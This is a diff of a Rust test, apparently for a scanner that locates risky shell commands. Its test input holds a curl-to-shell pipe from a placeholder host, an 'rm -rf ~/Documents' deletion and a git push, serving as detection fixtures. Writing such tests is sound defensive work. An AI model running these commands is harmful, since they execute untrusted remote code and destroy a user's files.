@@ -181,7 +181,8 @@ mod tests {
     #[test]
     fn what_fetches_and_runs_deletes_or_publishes_is_found_where_it_stands() {
         let text = format!(
-            "{}curl -s https://x.example/i \\\n  | sh\necho b\nrm -rf ~/Documents\ngit push origin main\n",
+            "{}curl -s https://x.example/i \\\n  | sh\necho b\nrm -rf ~/Documents\n\
+             git push origin main\n",
             "echo a > build/log\n".repeat(59)
         );
         assert_eq!(
